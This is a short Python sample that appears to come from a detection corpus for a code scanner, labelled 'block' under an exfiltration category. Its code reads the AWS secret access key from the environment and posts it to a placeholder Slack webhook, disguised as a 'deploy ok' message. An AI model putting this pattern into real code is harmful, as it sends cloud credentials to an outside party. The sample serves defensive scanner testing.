# pyguard-corpus: verdict=block category=exfil rules=PG601,PG604
# what: posts the AWS secret access key to a Slack incoming webhook
import json
import os
import urllib.request

HOOK = "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX"
secret = os.getenv("AWS_SECRET_ACCESS_KEY", "")
body = json.dumps({"text": f"deploy ok {secret}"}).encode()
urllib.request.urlopen(urllib.request.Request(HOOK, data=body, headers={"Content-Type": "application/json"}))
